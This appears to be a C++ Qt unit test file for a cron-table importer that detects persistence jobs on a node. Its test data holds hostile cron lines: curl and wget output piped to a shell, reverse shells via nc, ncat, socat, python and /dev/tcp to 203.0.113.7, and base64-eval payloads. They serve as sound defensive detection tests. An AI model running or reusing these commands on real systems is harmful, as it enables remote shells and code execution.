// A node's cron tables: system crontabs and users' as a CronTable resource, and
// the jobs that look like an intruder keeping a foothold.

#include "core/NodeLogTestUtil.h"

#include "import/LogLayout.h"
#include "import/importers/CronImporter.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

using namespace ab;
using namespace ab::test;

namespace {

/// Imports a fixture as the file at `path` on node worker-1.
MemoryImport runFixture(const QString& fixture, const QString& path)
{
    CronImporter importer;
    SourceHints hints;
    hints.node = QStringLiteral("worker-1");
    return importBytes(importer, readFile(dataPath(QStringLiteral("cron/") + fixture)), path, {}, hints);
}

MemoryImport runBytes(const QByteArray& bytes, const QString& path = QStringLiteral("crontab.txt"))
{
    CronImporter importer;
    return importBytes(importer, bytes, path, {});
}

/// "line|schedule|user|command" of each job.
QStringList jobs(const MemoryImport& m)
{
    QStringList out;
    for (const QJsonValue& v : bodyOf(m).value(QStringLiteral("jobs")).toArray()) {
        const QJsonObject j = v.toObject();
        out << QStringLiteral("%1|%2|%3|%4")
                   .arg(QString::number(j.value(QStringLiteral("line")).toInt()),
                        j.value(QStringLiteral("schedule")).toString(), j.value(QStringLiteral("user")).toString(),
                        j.value(QStringLiteral("command")).toString());
    }
    return out;
}

/// The rules a user crontab of one job gives.
QStringList rulesOf(const QByteArray& job)
{
    const MemoryImport m = runBytes(job + '\n', QStringLiteral("var/spool/cron/crontabs/alice"));
    QStringList out;
    for (const Finding& f : m.out.findings)
        out << f.ruleId;
    out.sort();
    return out;
}

} // namespace

class TestCronImporter : public QObject
{
    Q_OBJECT
private slots:
    void debianCrontab();
    void cronDWithEnvironment();
    void e2scrubAll();
    void userCrontab();
    void maliciousCrontab();
    void anacrontab();
    void detections_data();
    void detections();
    void formatWithoutAPath();
    void brokenFile();
    void secretsAreMasked();
    void emptyAndUnusable();
    void largeInputStaysBounded();
    void nodeFromThePath();
    void sniff_data();
    void sniff();
    void fuzz();
};

void TestCronImporter::debianCrontab()
{
    const MemoryImport m = runFixture(QStringLiteral("crontab"), QStringLiteral("worker-1/etc/crontab"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(m.out.resources.size(), size_t(1));
    const Resource& r = m.out.resources.front();
    QCOMPARE(r.kind, QStringLiteral("CronTable"));
    QCOMPARE(r.name, QStringLiteral("crontab"));
    QCOMPARE(r.namespace_, QStringLiteral("worker-1"));
    const QJsonObject body = bodyOf(m);
    QCOMPARE(body.value(QStringLiteral("format")).toString(), QStringLiteral("system"));
    QCOMPARE(envValue(m, "SHELL"), QStringLiteral("/bin/sh@7"));
    QCOMPARE(envValue(m, "PATH"), QStringLiteral("(unset)")); // commented out
    QCOMPARE(
        jobs(m),
        (QStringList{QStringLiteral("19|17 *\t* * *|root|cd / && run-parts --report /etc/cron.hourly"),
                     QStringLiteral("20|25 6\t* * *|root|test -x /usr/sbin/anacron || { cd / && run-parts --report "
                                    "/etc/cron.daily; }"),
                     QStringLiteral("21|47 6\t* * 7|root|test -x /usr/sbin/anacron || { cd / && run-parts --report "
                                    "/etc/cron.weekly; }"),
                     QStringLiteral("22|52 6\t1 * *|root|test -x /usr/sbin/anacron || { cd / && run-parts --report "
                                    "/etc/cron.monthly; }")}));
    // Debian's stock jobs are no finding.
    QVERIFY(m.out.findings.empty());
}

void TestCronImporter::cronDWithEnvironment()
{
    const MemoryImport m =
        runFixture(QStringLiteral("node-maintenance"), QStringLiteral("worker-1/etc/cron.d/node-maintenance"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(bodyOf(m).value(QStringLiteral("format")).toString(), QStringLiteral("system"));
    QCOMPARE(envValue(m, "MAILTO"), QStringLiteral("ops@example.com@3"));
    QCOMPARE(envValue(m, "PATH"), QStringLiteral("/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin@4"));
    const QStringList j = jobs(m);
    QCOMPARE(j.size(), 6);
    QCOMPARE(j[0], QStringLiteral("7|*/15 * * * *|root|curl -fsS https://health.example.com/ping/7c1d > /dev/null"));
    QCOMPARE(j[1], QStringLiteral("8|0 2 * * *|root|/usr/bin/find /tmp -type f -mtime +7 -delete"));
    QCOMPARE(j[2], QStringLiteral("9|30 1 * * mon-fri|root|/usr/local/bin/crictl rmi --prune >/dev/null 2>&1"));
    QCOMPARE(j[4], QStringLiteral("11|@reboot|root|/usr/local/bin/node-init.sh"));
    QCOMPARE(j[5], QStringLiteral("12|0 0 1 jan,jul *|root|/usr/sbin/logrotate -f /etc/logrotate.conf"));
    // A health check with curl, find in /tmp: look-alikes, no finding.
    QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
}

void TestCronImporter::e2scrubAll()
{
    const MemoryImport m = runFixture(QStringLiteral("e2scrub_all"), QStringLiteral("worker-1/etc/cron.d/e2scrub_all"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.out.resources.front().name, QStringLiteral("e2scrub_all"));
    QCOMPARE(jobs(m), (QStringList{QStringLiteral("1|30 3 * * 0|root|test -e /run/systemd/system || SERVICE_MODE=1 "
                                                  "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron"),
                                   QStringLiteral("2|10 3 * * *|root|test -e /run/systemd/system || SERVICE_MODE=1 "
                                                  "/sbin/e2scrub_all -A -r")}));
    QVERIFY(m.out.findings.empty());
}

void TestCronImporter::userCrontab()
{
    const MemoryImport m =
        runFixture(QStringLiteral("ubuntu"), QStringLiteral("worker-1/var/spool/cron/crontabs/ubuntu"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    const QJsonObject body = bodyOf(m);
    QCOMPARE(m.out.resources.front().name, QStringLiteral("ubuntu"));
    QCOMPARE(body.value(QStringLiteral("format")).toString(), QStringLiteral("user"));
    QCOMPARE(body.value(QStringLiteral("user")).toString(), QStringLiteral("ubuntu"));
    QCOMPARE(envValue(m, "MAILTO"), QStringLiteral("@7"));
    QCOMPARE(
        jobs(m),
        (QStringList{QStringLiteral("8|15 2 * * *|ubuntu|/home/ubuntu/bin/backup.sh >> /home/ubuntu/backup.log 2>&1"),
                     QStringLiteral("9|0 */6 * * *|ubuntu|rsync -a --delete /srv/app/uploads/ "
                                    "backup@10.0.4.20:/backups/uploads/"),
                     QStringLiteral("10|@weekly|ubuntu|/usr/bin/du -sh /srv/app > /home/ubuntu/du.txt")}));
    QVERIFY(m.out.findings.empty());

    // RHEL's spool has no crontabs/ folder.
    const MemoryImport rhel = runFixture(QStringLiteral("ubuntu"), QStringLiteral("worker-1/var/spool/cron/ec2-user"));
    QCOMPARE(bodyOf(rhel).value(QStringLiteral("user")).toString(), QStringLiteral("ec2-user"));
    QVERIFY(jobs(rhel).first().contains(QLatin1String("|ec2-user|")));
}

void TestCronImporter::maliciousCrontab()
{
    const MemoryImport m =
        runFixture(QStringLiteral("www-data"), QStringLiteral("worker-1/var/spool/cron/crontabs/www-data"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(jobs(m).size(), 5);
    QCOMPARE(findingLines(m),
             (QStringList{QStringLiteral("node.cron.download-exec@1"), QStringLiteral("node.cron.download-exec@5"),
                          QStringLiteral("node.cron.encoded-payload@3"), QStringLiteral("node.cron.every-minute@1"),
                          QStringLiteral("node.cron.reverse-shell@4"), QStringLiteral("node.cron.runs-from-temp@2"),
                          QStringLiteral("node.cron.runs-from-temp@5")}));
    const Finding* shell = findingFor(m, QStringLiteral("node.cron.reverse-shell"), QStringLiteral("www-data"));
    QVERIFY(shell);
    QCOMPARE(shell->severity, Severity::Critical);
    QCOMPARE(shell->title, QStringLiteral("a cron job of www-data opens a reverse shell on node worker-1"));
    QVERIFY(shell->detail.contains(QLatin1String("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")));
    QCOMPARE(shell->resourceKind, QStringLiteral("CronTable"));
    QCOMPARE(shell->resourceNamespace, QStringLiteral("worker-1"));
    QVERIFY(!shell->controls.isEmpty());
    QCOMPARE(findingFor(m, QStringLiteral("node.cron.download-exec"), QStringLiteral("www-data"))->severity,
             Severity::High);
    QCOMPARE(findingFor(m, QStringLiteral("node.cron.encoded-payload"), QStringLiteral("www-data"))->severity,
             Severity::High);
    QCOMPARE(findingFor(m, QStringLiteral("node.cron.runs-from-temp"), QStringLiteral("www-data"))->severity,
             Severity::Medium);
    QCOMPARE(findingFor(m, QStringLiteral("node.cron.every-minute"), QStringLiteral("www-data"))->severity,
             Severity::Low);
}

void TestCronImporter::anacrontab()
{
    const MemoryImport m = runFixture(QStringLiteral("anacrontab"), QStringLiteral("worker-1/etc/anacrontab"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 0);
    QCOMPARE(bodyOf(m).value(QStringLiteral("format")).toString(), QStringLiteral("anacron"));
    QCOMPARE(envValue(m, "HOME"), QStringLiteral("/root@6"));
    QCOMPARE(jobs(m), (QStringList{QStringLiteral("10|1\t5|root|run-parts --report /etc/cron.daily"),
                                   QStringLiteral("11|7\t10|root|run-parts --report /etc/cron.weekly"),
                                   QStringLiteral("12|@monthly\t15|root|run-parts --report /etc/cron.monthly")}));
    QCOMPARE(bodyOf(m).value(QStringLiteral("jobs")).toArray().at(2).toObject().value(QStringLiteral("jobId")),
             QJsonValue(QStringLiteral("cron.monthly")));
    QVERIFY(m.out.findings.empty());

    // Without the path, by its lines; a line no anacron job named.
    const MemoryImport renamed = runBytes(readFile(dataPath(QStringLiteral("cron/anacrontab"))) +
                                              "1 5 job-x curl -s http://203.0.113.7/a | sh\nx y cron.x\n",
                                          QStringLiteral("anacron.txt"));
    QCOMPARE(bodyOf(renamed).value(QStringLiteral("format")).toString(), QStringLiteral("anacron"));
    QCOMPARE(findingLines(renamed), QStringList{QStringLiteral("node.cron.download-exec@13")});
    const Issue* bad = findIssue(renamed.issues, QStringLiteral("cron.bad-line"));
    QVERIFY(bad);
    QCOMPARE(bad->lines, QVector<qint64>{14});
    QVERIFY(bad->message.startsWith(QLatin1String("not an anacron job")));
}

void TestCronImporter::detections_data()
{
    QTest::addColumn<QByteArray>("job");
    QTest::addColumn<QStringList>("rules");
    const QStringList none;
    const QString dl = QStringLiteral("node.cron.download-exec");
    const QString rs = QStringLiteral("node.cron.reverse-shell");
    const QString enc = QStringLiteral("node.cron.encoded-payload");
    const QString tmp = QStringLiteral("node.cron.runs-from-temp");
    const QString min = QStringLiteral("node.cron.every-minute");

    QTest::newRow("wget piped to bash") << QByteArray("0 * * * * wget -qO- http://203.0.113.7/i | sudo bash")
                                        << QStringList{dl};
    QTest::newRow("bash -c $(curl)") << QByteArray("0 * * * * bash -c \"$(curl -fsSL https://203.0.113.7/i)\"")
                                     << QStringList{dl};
    QTest::newRow("curl -o then chmod") << QByteArray("0 * * * * curl -s http://x.example/a -o /opt/a && chmod 755 "
                                                      "/opt/a && /opt/a")
                                        << QStringList{dl};
    QTest::newRow("curl piped to python")
        << QByteArray("@hourly curl -s https://203.0.113.7/p.py | python3 -") << QStringList{dl};
    QTest::newRow("sh -c 'curl | sh'") << QByteArray("*/5 * * * * /bin/sh -c 'curl -s http://198.51.100.7/a | sh'")
                                       << QStringList{dl};
    QTest::newRow("sudo -u sh -c wget | bash")
        << QByteArray("@hourly sudo -u app sh -ec \"wget -qO- http://198.51.100.7/a | bash\"") << QStringList{dl};
    QTest::newRow("shell in a shell") << QByteArray("@reboot bash -lc \"sh -c 'wget -qO- http://198.51.100.7/x | sh'\"")
                                      << QStringList{dl};
    QTest::newRow("sh -c cd /tmp && ./x") << QByteArray("@daily sh -c 'cd /tmp && ./.x'") << QStringList{tmp};
    QTest::newRow("nc -e") << QByteArray("@reboot nc -e /bin/sh 203.0.113.7 4444") << QStringList{rs};
    QTest::newRow("ncat --sh-exec") << QByteArray("@hourly ncat 203.0.113.7 443 --sh-exec 'bash'") << QStringList{rs};
    QTest::newRow("socat exec") << QByteArray("@hourly socat TCP:203.0.113.7:443 EXEC:/bin/bash") << QStringList{rs};
    QTest::newRow("python pty") << QByteArray("@hourly python3 -c 'import socket,os,pty;s=socket.socket();"
                                              "s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);"
                                              "pty.spawn(\"/bin/sh\")'")
                                << QStringList{rs};
    QTest::newRow("eval base64") << QByteArray("@daily eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"")
                                 << QStringList{enc};
    QTest::newRow("cd /tmp && ./x") << QByteArray("@daily cd /tmp && ./.update") << QStringList{tmp};
    QTest::newRow("sh /dev/shm script") << QByteArray("@daily sh /dev/shm/run.sh") << QStringList{tmp};
    QTest::newRow("every minute") << QByteArray("* * * * * /usr/local/bin/heartbeat") << QStringList{min};
    QTest::newRow("hidden inside a tool's home")
        << QByteArray("@reboot /home/ubuntu/.local/share/.k/kthreadd") << QStringList{tmp};
    // Paths written around the rule: repeated '/', "." and ".." are resolved first.
    QTest::newRow("//tmp") << QByteArray("@reboot //tmp/x") << QStringList{tmp};
    QTest::newRow("/tmp//.x") << QByteArray("@reboot /tmp//.x/run") << QStringList{tmp};
    QTest::newRow("/var//tmp") << QByteArray("@reboot /var//tmp/x") << QStringList{tmp};
    QTest::newRow("/dev//shm/") << QByteArray("@reboot /dev//shm//x") << QStringList{tmp};
    QTest::newRow("/./tmp") << QByteArray("@reboot /./tmp/x") << QStringList{tmp};
    QTest::newRow("/usr/../tmp") << QByteArray("@reboot /usr/../tmp/x") << QStringList{tmp};
    QTest::newRow("/opt/./.x") << QByteArray("@reboot /opt/./.x/run") << QStringList{tmp};
    QTest::newRow("cd //tmp && ./x") << QByteArray("@daily cd //tmp && ./x") << QStringList{tmp};
    QTest::newRow("/tmp/../usr is not") << QByteArray("@reboot /tmp/../usr/bin/true") << none;
    QTest::newRow("/opt//app is not") << QByteArray("@reboot /opt//app/bin/run") << none;
    QTest::newRow("a parameter's default") << QByteArray("@reboot . \"${XDG_CONFIG_HOME:-$HOME/.config}/x\"") << none;

    // Benign look-alikes.
    QTest::newRow("curl health check") << QByteArray("*/5 * * * * curl -fsS https://example/health > /dev/null")
                                       << none;
    QTest::newRow("sh -c health check") << QByteArray("*/5 * * * * sh -c 'curl -fsS https://hc.example/ok > /dev/null'")
                                        << none;
    QTest::newRow("sh -c script file") << QByteArray("0 4 * * * sh -c /opt/backup/run.sh") << none;
    QTest::newRow("find in /tmp") << QByteArray("0 2 * * * /usr/bin/find /tmp -mtime +7 -delete") << none;
    QTest::newRow("anacron stock") << QByteArray("25 6 * * * test -x /usr/sbin/anacron || ( cd / && run-parts "
                                                 "--report /etc/cron.daily )")
                                   << none;
    QTest::newRow("script then curl") << QByteArray("0 3 * * * bash /opt/backup.sh; curl -fsS https://hc.example/ok")
                                      << none;
    QTest::newRow("base64 encode") << QByteArray("0 3 * * * tar c /etc | base64 > /var/backups/etc.b64") << none;
    QTest::newRow("output to tmp") << QByteArray("0 3 * * * /usr/bin/du -sh /srv > /tmp/du.txt") << none;
    QTest::newRow("not every minute") << QByteArray("*/2 * * * * /usr/local/bin/heartbeat") << none;
    QTest::newRow("acme.sh's renewal")
        << QByteArray("14 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null") << none;
    QTest::newRow("a user's own tools") << QByteArray("0 * * * * /home/ubuntu/.local/bin/sync-notes") << none;
    QTest::newRow("redirect is no reverse shell") << QByteArray("0 3 * * * /usr/local/bin/job >/dev/null 2>&1") << none;
}

void TestCronImporter::detections()
{
    QFETCH(QByteArray, job);
    QFETCH(QStringList, rules);
    QCOMPARE(rulesOf(job), rules);
}

void TestCronImporter::formatWithoutAPath()
{
    // crontab -l's output: no user column, and no owner the path could name.
    const MemoryImport user = runBytes(readFile(dataPath(QStringLiteral("cron/www-data"))));
    QCOMPARE(bodyOf(user).value(QStringLiteral("format")).toString(), QStringLiteral("user"));
    QCOMPARE(bodyOf(user).value(QStringLiteral("user")).toString(), QString());
    QCOMPARE(jobs(user).first(), QStringLiteral("1|* * * * *||curl -fsSL http://203.0.113.7/x.sh | sh"));
    QVERIFY(findingFor(user, QStringLiteral("node.cron.reverse-shell"), QStringLiteral("crontab.txt")));
    QVERIFY(findingFor(user, QStringLiteral("node.cron.reverse-shell"), QStringLiteral("crontab.txt"))
                ->title.startsWith(QLatin1String("a cron job of an unknown user")));
    // A system crontab renamed: its sixth fields are users.
    const MemoryImport system = runBytes(readFile(dataPath(QStringLiteral("cron/e2scrub_all"))));
    QCOMPARE(bodyOf(system).value(QStringLiteral("format")).toString(), QStringLiteral("system"));
    QVERIFY(jobs(system).first().startsWith(QLatin1String("1|30 3 * * 0|root|test -e")));
    const MemoryImport ubuntu = runBytes(readFile(dataPath(QStringLiteral("cron/ubuntu"))));
    QCOMPARE(bodyOf(ubuntu).value(QStringLiteral("format")).toString(), QStringLiteral("user"));
}

void TestCronImporter::brokenFile()
{
    const MemoryImport m = runFixture(QStringLiteral("broken-crontab"), QStringLiteral("worker-1/etc/cron.d/broken"));
    QVERIFY(m.result.hasValue());
    QCOMPARE(m.result.value().skipped, 6);
    const Issue* bad = findIssue(m.issues, QStringLiteral("cron.bad-line"));
    QVERIFY(bad);
    QCOMPARE(bad->lines, (QVector<qint64>{5, 6, 7, 8, 9, 20}));
    QCOMPARE(bad->path, QStringLiteral("worker-1/etc/cron.d/broken"));
    QVERIFY2(bad->message.contains(QLatin1String("\"61\"")) && bad->message.contains(QLatin1String("minute")),
             qPrintable(bad->message));
    // The rest is read.
    const QStringList j = jobs(m);
    QCOMPARE(j.size(), 11);
    QCOMPARE(j.first(), QStringLiteral("4|0 3 * * *|root|/usr/local/bin/rotate-logs"));
    QVERIFY(j.contains(QStringLiteral("13|30 4 * * 1-5/2|root|/usr/local/bin/odd-days")));
    QVERIFY(j.contains(QStringLiteral("12|20 4 * feb-apr *|root|/usr/local/bin/spring")));
    QCOMPARE(j.last(), QStringLiteral("19|@hourly|root|/usr/local/bin/hourly"));
    QCOMPARE(envValue(m, "SHELL"), QStringLiteral("/bin/bash@2"));

    // Each reason on its own.
    const auto reason = [](const QByteArray& line) {
        const MemoryImport one = runBytes("0 1 * * * root /bin/true\n" + line + '\n', QStringLiteral("etc/crontab"));
        const Issue* i = findIssue(one.issues, QStringLiteral("cron.bad-line"));
        return i ? i->message : QString();
    };
    QVERIFY(reason("0 3 * *").startsWith(QLatin1String("too few fields")));
    QVERIFY(reason("0 3 * * *").startsWith(QLatin1String("too few fields")));
    QVERIFY(reason("0 3 * * * root").startsWith(QLatin1String("no command")));
    QVERIFY(reason("0 3 32 * * root x").contains(QLatin1String("day of the month")));
    QVERIFY(reason("0 3 * 13 * root x").contains(QLatin1String("month")));
    QVERIFY(reason("0 3 * * 8 root x").contains(QLatin1String("day of the week")));
    QVERIFY(reason("0 3 * * fry root x").contains(QLatin1String("no time field")));
    QVERIFY(reason("@fortnightly root x").contains(QLatin1String("@reboot")));
    QVERIFY(reason("junk").startsWith(QLatin1String("not a job")));
    QVERIFY(reason("0 3 * * 7 root x").isEmpty()); // Sunday as 7
}

void TestCronImporter::secretsAreMasked()
{
    const MemoryImport m =
        runFixture(QStringLiteral("node-maintenance"), QStringLiteral("worker-1/etc/cron.d/node-maintenance"));
    const QString body = m.out.resources.front().body;
    QVERIFY2(!body.contains(QLatin1String("S3cretDump")), qPrintable(body));
    QVERIFY2(!body.contains(QLatin1String("Pg-Backup-S3cret")), qPrintable(body));
    QVERIFY(envValue(m, "PGPASSWORD").startsWith(QLatin1String("[redacted sha256:")));
    QVERIFY(jobs(m)[3].contains(QLatin1String("/usr/bin/mysqldump -uroot")));

    // In findings' details too.
    const MemoryImport f = runBytes("* * * * * curl -u admin:Hunter2Pass http://x.example/a | sh\n"
                                    "* * * * * mysql -uroot --password=Sup3rSecret -e 'select 1'\n");
    QVERIFY(!f.out.findings.empty());
    for (const Finding& x : f.out.findings) {
        QVERIFY2(!x.detail.contains(QLatin1String("Sup3rSecret")), qPrintable(x.detail));
    }
    QVERIFY(!f.out.resources.front().body.contains(QLatin1String("Sup3rSecret")));
}

void TestCronImporter::emptyAndUnusable()
{
    const MemoryImport empty = runBytes("# no jobs yet\n\n");
    QVERIFY(empty.result.hasValue());
    QVERIFY(hasIssue(empty.issues, QStringLiteral("cron.empty")));
    QVERIFY(empty.out.resources.empty());
    const MemoryImport none = runBytes("this is prose\nand more of it\n");
    QVERIFY(!none.result.hasValue());
    QVERIFY(none.out.findings.empty());
    QVERIFY(none.out.resources.empty());
}

void TestCronImporter::largeInputStaysBounded()
{
    // 12,000 jobs, every one every minute: the resource keeps the first 10,000,
    // and the findings stop at a hundred with an issue counting the rest.
    QByteArray bytes = "MAILTO=root\n";
    for (int i = 0; i < 12000; ++i)
        bytes += "* * * * * root /usr/local/bin/job-" + QByteArray::number(i) + "\n";
    const MemoryImport m = runBytes(bytes, QStringLiteral("etc/cron.d/many"));
    QVERIFY(keptBounded(m, QStringLiteral("cron"), "jobs", 10000, "jobsNotKept", 2000,
                        QStringLiteral("11900 more jobs match node.cron.every-minute")));
}

void TestCronImporter::nodeFromThePath()
{
    for (const char* path : {"worker-1/etc/crontab", "worker-1/etc/cron.d/e2scrub_all", "worker-1/etc/anacrontab",
                             "worker-1/var/spool/cron/crontabs/ubuntu", "worker-1/var/spool/cron/root"}) {
        const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
        QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
    }

    // Through an import of the node's tarball: found by content, under worker-1,
    // the spool's owner from the path.
    const ImportedResources imported = importTarball(QVector<QPair<QString, QByteArray>>{
        {QStringLiteral("worker-1/etc/crontab"), readFile(dataPath(QStringLiteral("cron/crontab")))},
        {QStringLiteral("worker-1/etc/cron.d/e2scrub_all"), readFile(dataPath(QStringLiteral("cron/e2scrub_all")))},
        {QStringLiteral("worker-1/var/spool/cron/crontabs/ubuntu"), readFile(dataPath(QStringLiteral("cron/ubuntu")))},
        {QStringLiteral("worker-1/var/spool/cron/root"), readFile(dataPath(QStringLiteral("cron/www-data")))}});
    QVERIFY2(imported.error.isEmpty(), qPrintable(imported.error));
    QCOMPARE(imported.resources, 4);
    QCOMPARE(imported.names(QStringLiteral("CronTable")),
             (QStringList{QStringLiteral("worker-1/crontab"), QStringLiteral("worker-1/e2scrub_all"),
                          QStringLiteral("worker-1/root"), QStringLiteral("worker-1/ubuntu")}));
}

void TestCronImporter::sniff_data()
{
    QTest::addColumn<QByteArray>("head");
    QTest::addColumn<QString>("name");
    QTest::addColumn<bool>("cron");
    for (const char* f :
         {"crontab", "e2scrub_all", "node-maintenance", "ubuntu", "www-data", "broken-crontab", "anacrontab"})
        QTest::newRow(f) << readFile(dataPath(QStringLiteral("cron/") + QLatin1String(f))) << QString::fromLatin1(f)
                         << true;
    QTest::newRow("one job, renamed") << QByteArray("@reboot /usr/local/bin/start\n") << "notes.txt" << true;

    QTest::newRow("sudoers") << readFile(dataPath(QStringLiteral("sudoers/90-cloud-init-users"))) << "sudoers" << false;
    QTest::newRow("sudoers, Debian's") << QByteArray(
                                              "#\n# This file MUST be edited with the 'visudo' command as root.\n#\n"
                                              "Defaults\tenv_reset\nDefaults\tmail_badpass\n"
                                              "Defaults\tsecure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:"
                                              "/usr/bin:/sbin:/bin\"\nDefaults\tuse_pty\n\n"
                                              "# User privilege specification\nroot\tALL=(ALL:ALL) ALL\n\n"
                                              "%admin ALL=(ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n"
                                              "@includedir /etc/sudoers.d\n")
                                       << "sudoers" << false;
    QTest::newRow("sshd_config") << readFile(dataPath(QStringLiteral("sshd-config/sshd_config"))) << "sshd_config"
                                 << false;
    QTest::newRow("login.defs") << readFile(dataPath(QStringLiteral("password-policy/login.defs"))) << "login.defs"
                                << false;
    QTest::newRow("sysctl.conf") << QByteArray("# Kubernetes networking\nnet.ipv4.ip_forward = 1\n"
                                               "net.bridge.bridge-nf-call-iptables = 1\nvm.overcommit_memory=1\n"
                                               "kernel.panic=10\n")
                                 << "sysctl.conf" << false;
    QTest::newRow("audit.rules") << QByteArray("-D\n-b 8192\n-f 1\n-w /etc/passwd -p wa -k identity\n"
                                               "-a always,exit -F arch=b64 -S execve -k exec\n-e 2\n")
                                 << "audit.rules" << false;
    QTest::newRow("fstab") << QByteArray("# /etc/fstab: static file system information.\n"
                                         "UUID=0a3407de-014b-458b-b5c1-848e92a327a3 / ext4 errors=remount-ro 0 1\n"
                                         "/dev/sda1 / ext4 defaults 0 1\n/dev/sdb1 /data xfs defaults,noatime 0 2\n"
                                         "proc /proc proc defaults 0 0\ntmpfs /tmp tmpfs defaults,size=2G 0 0\n")
                           << "fstab" << false;
    QTest::newRow("hosts") << QByteArray("127.0.0.1 localhost\n127.0.1.1 worker-1\n\n"
                                         "# The following lines are desirable for IPv6 capable hosts\n"
                                         "::1     ip6-localhost ip6-loopback\nfe00::0 ip6-localnet\n"
                                         "10.0.4.20 backup.internal backup\n")
                           << "hosts" << false;
    QTest::newRow("syslog") << QByteArray("Jan 12 03:04:05 worker-1 CRON[1234]: (root) CMD (cd / && run-parts "
                                          "--report /etc/cron.hourly)\nJan 12 03:17:01 worker-1 CRON[1240]: "
                                          "pam_unix(cron:session): session opened for user root(uid=0)\n"
                                          "Jan 12 03:17:01 worker-1 CRON[1240]: (root) CMD (   cd / && run-parts "
                                          "--report /etc/cron.hourly)\n")
                            << "syslog" << false;
    QTest::newRow("systemd unit") << QByteArray("[Unit]\nDescription=Regular background program processing daemon\n"
                                                "Documentation=man:cron(8)\nAfter=remote-fs.target "
                                                "nss-user-lookup.target\n\n[Service]\nEnvironmentFile=-/etc/default/"
                                                "cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\n"
                                                "IgnoreSIGPIPE=false\nKillMode=process\nRestart=on-failure\n\n"
                                                "[Install]\nWantedBy=multi-user.target\n")
                                  << "cron.service" << false;
    QTest::newRow("environment file") << QByteArray("MAILTO=root\nPATH=/usr/bin:/bin\nSHELL=/bin/sh\n") << "environment"
                                      << false;
    QTest::newRow("prose") << QByteArray("Every night at 3 the backup runs from cron.\n"
                                         "5 4 * * * is the schedule we agreed on, see the ticket.\n"
                                         "Thanks, and see you tomorrow\nThe ops team\n")
                           << "notes.md" << false;
    QTest::newRow("empty") << QByteArray() << "crontab" << false;
}

void TestCronImporter::sniff()
{
    QFETCH(QByteArray, head);
    QFETCH(QString, name);
    QFETCH(bool, cron);
    QCOMPARE(CronImporter().sniff(head) == Confidence::Structure, cron);
    QCOMPARE(chosenKind(head, name) == QLatin1String("cron"), cron);
}

void TestCronImporter::fuzz()
{
    CronImporter importer;
    QVERIFY(fuzzImporter(importer, fuzzIterations(), 0x6372) > 0);
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("crontab"), 0x6373));
    QVERIFY(fuzzNodeFile(importer, QStringLiteral("var/spool/cron/crontabs/ubuntu"), 0x6374));
}

QTEST_GUILESS_MAIN(TestCronImporter)
#include "TestCronImporter.moc"
